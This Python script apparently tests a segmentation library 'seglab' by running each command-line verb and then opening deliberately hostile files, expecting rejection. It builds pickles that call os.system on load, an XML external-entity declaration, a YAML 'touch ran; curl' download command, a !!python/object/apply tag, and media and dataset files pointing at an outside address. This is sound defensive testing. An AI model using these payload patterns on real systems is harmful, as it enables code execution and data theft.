"""Run every verb of the command line once, and open files made to harm: what tests/test_telemetry.py looks at.

python every_verb.py: in a folder with toybox8-seg as `data`; all output goes below `out`. The file /verb/NAME, which
is not there, is asked for in front of each, so that a trace of system calls tells where it is.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
import zipfile
from contextlib import suppress
from importlib.util import find_spec
from pathlib import Path

import cv2
import numpy as np
import torch

from seglab import YOLO
from seglab.cli import main
from seglab.errors import SeglabError

ELSEWHERE = "http://192.0.2.1/a"  # an address that nobody has (RFC 5737)
SMALL = "imgsz=64"
NAMES = [f"class {number}" for number in range(10)]  # as many as toybox-n has
TRAINING = f"model=toybox-n data=data/toybox8-seg.yaml {SMALL} batch=4 workers=2 device=cpu project=out"


def commands() -> list[str]:
    """A command line a verb, which reads what those before it have written."""
    best = "out/train/weights/best.safetensors"
    formats = [name for name, package in (("onnx", "onnxruntime"), ("openvino", "openvino")) if find_spec(package)]
    found = [
        f"train {TRAINING} epochs=1",
        f"val model={best} data=data/toybox8-seg.yaml {SMALL} project=out save_json",
        f"predict model={best} source=data/images/val {SMALL} project=out save_txt save_crop",
        *(f"export model={best} format={name} {SMALL} out=out/exported" for name in formats),
        *(f"benchmark model={best} formats={name} precisions=fp32 {SMALL} out=out/benchmark" for name in formats[:1]),
        *(f"verify file=out/exported.{name} model={best}" for name in formats if name == "onnx"),
        "convert source=data/annotations/instances_val.json images=data/images/val out=out/converted",
        "check data=data/toybox8-seg.yaml out=out/check",
        "split data=data/images/val holdout=0.25 out=out/part-split.yaml",
        "evaluate gt=data/annotations/instances_val.json dt=out/val/predictions.json",
        f"doctor model={best} data=data/toybox8-seg.yaml {SMALL}",
        f"explore model={best} source=data/toybox8-seg.yaml html=out/explorer.html {SMALL}",
        "toybox count=1 size=96 out=out/scenes",
        "demo epochs=1 imgsz=64 out=out/demo",
        "course out=out/course open=False",
        "cache",
        "checks",
        "settings",
        "cfg",
        "copy-cfg out=out/mine.yaml",
        "version",
        "help train",
    ]
    if find_spec("trackers"):
        found.append(f"track model={best} source=video.mp4 {SMALL} project=out")
    if find_spec("optuna"):
        found.append(f"tune {TRAINING} epochs=1 iterations=1")
    return found


def write_video(path: Path) -> None:
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter.fourcc(*"mp4v"), 10, (64, 64))
    for _ in range(3):
        writer.write(np.full((64, 64, 3), 90, np.uint8))
    writer.release()


class Ran:
    """What a pickle calls when it is loaded: it would write a file."""

    def __reduce__(self):
        return (os.system, ("touch ran",))


class WritesFiles(torch.nn.Module):
    """A program that writes a file when it runs."""

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        return images + torch.from_file("ran", True, 4, dtype=torch.uint8).fill_(65).sum()


def write_hostile_files(folder: Path) -> list[tuple[str, Path]]:
    """Files made to harm -> (how a user opens each, its path)."""
    found: list[tuple[str, Path]] = []

    def add(how: str, name: str, content: bytes | str) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        found.append((how, path))
        return path

    # weights and exported files
    pickled = pickle.dumps({"model": Ran()}, protocol=2)
    add("model", "plain.pt", pickled)
    with zipfile.ZipFile(add("model", "archive.pt", b""), "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
    torch.jit.save(torch.jit.script(WritesFiles()), str(add("model", "a.torchscript", b"")))
    with zipfile.ZipFile(add("model", "a.pt2", b""), "w") as archive:
        archive.writestr("archive/archive_format", "pt2")
        archive.writestr("archive/data/constants/model_constants_config.json", "{}")
        archive.writestr("archive/data/sample_inputs/model.pt", pickled)
    add("model", "a.engine", pickled)
    add("model", "a.pb", pickled)
    add("model", "a.tflite", pickled)
    add("model", "a_saved_model/saved_model.pb", pickled)
    add("model", "a_openvino_model/model.xml", '<net><layers><layer type="Run" version="/tmp/evil.so"/></layers></net>')
    add("model", "a_ncnn_model/model.ncnn.param", "7767517\n1 1\nRunMe a 0 1 in0")
    if find_spec("onnx"):
        from onnx import TensorProto, helper

        weights = helper.make_tensor("weights", TensorProto.FLOAT, [1], [0.0])
        weights.data_location = TensorProto.EXTERNAL
        weights.external_data.add(key="location", value="/etc/hostname")
        graph = helper.make_graph([], "graph", [], [], [weights])
        add("model", "a.onnx", helper.make_model(graph).SerializeToString())

    # images and videos: other programs' languages, and lists of addresses
    postscript = "%!PS-Adobe-3.0\n(ran) (w) file closefile showpage\n"
    playlist = f"#EXTM3U\n#EXTINF:1,\n{ELSEWHERE}.ts\n#EXT-X-ENDLIST\n"
    for name in ("a.jpg", "b.tif", "c.png"):
        add("source", name, postscript)
    add("source", "a.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{ELSEWHERE}.png"/></svg>')
    for name in ("a.mp4", "a.avi", "a.m3u8", "d.jpg"):
        add("source", name, playlist)
    add("source", "b.mp4", f"ffconcat version 1.0\nfile '{ELSEWHERE}.mp4'\n")
    add("source", "c.mp4", "v=0\no=- 0 0 IN IP4 192.0.2.1\ns=a\nc=IN IP4 192.0.2.1\nt=0 0\nm=video 5004 RTP/AVP 96\n")
    add(
        "source",
        "a.npy",
        b"\x93NUMPY\x01\0\x3e\0{'descr': '|O', 'fortran_order': False, 'shape': (1,)}      \n" + pickled,
    )

    # datasets: addresses, scripts, entities
    categories = [{"id": number, "name": name} for number, name in enumerate(NAMES)]
    image = {"id": 1, "file_name": "a.jpg", "coco_url": f"{ELSEWHERE}.jpg", "height": 9, "width": 9}
    add(
        "data",
        "coco/a.json",
        json.dumps({"images": [image], "annotations": [], "categories": categories}),
    )
    task = {"id": 1, "data": {"image": f"{ELSEWHERE}.jpg"}, "annotations": []}
    add("data", "studio/a.json", json.dumps([task]))
    entity = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{ELSEWHERE}.dtd"> %x;]>'
    add(
        "data",
        "cvat/annotations.xml",
        f'<?xml version="1.0"?>{entity}<annotations><image id="0" name="a.png"/></annotations>',
    )
    script = f"train: images\nval: images\nnames: {NAMES}\ndownload: touch ran; curl {ELSEWHERE}\n"
    add("data", "script.yaml", script)
    add(
        "data",
        "address.yaml",
        f"path: {ELSEWHERE}\ntrain: {ELSEWHERE}/images\nval: {ELSEWHERE}/images\nnames: {NAMES}\n",
    )
    add("data", "python.yaml", "names: !!python/object/apply:os.system [touch ran]\n")
    add("data", "list.yaml", f"train: list.txt\nval: list.txt\nnames: {NAMES}\n")
    (folder / "list.txt").write_text(f"{ELSEWHERE}.jpg\n")
    return found


def open_as_a_user_does(how: str, path: Path, model: YOLO) -> None:
    """Errors: SeglabError, or none where nothing of the file is used."""
    if how == "model":
        opened = YOLO(path if path.parent.name == "hostile" else path.parent)
        opened.predict("data/images/val", imgsz=64, verbose=False)
    elif how == "source":
        model.predict(str(path), imgsz=64, verbose=False)
    else:
        model.val(str(path if path.suffix == ".yaml" else path.parent), imgsz=64, verbose=False)


def mark(name: str) -> None:
    with suppress(FileNotFoundError):
        open(f"/verb/{name}")


if __name__ == "__main__":
    write_video(Path("video.mp4"))
    failed = []
    for command in commands():
        mark(command.split()[0])
        if main(command.split()) not in (0, 1):
            failed.append(command)
    model = YOLO("toybox-n")
    for how, path in write_hostile_files(Path("hostile").resolve()):
        mark(path.name)
        try:
            open_as_a_user_does(how, path, model)
            failed.append(f"{path.name} was opened")
        except (SeglabError, FileNotFoundError) as error:
            print(f"{path.name}: {error}")
    sys.exit(f"failed: {failed}" if failed else 0)
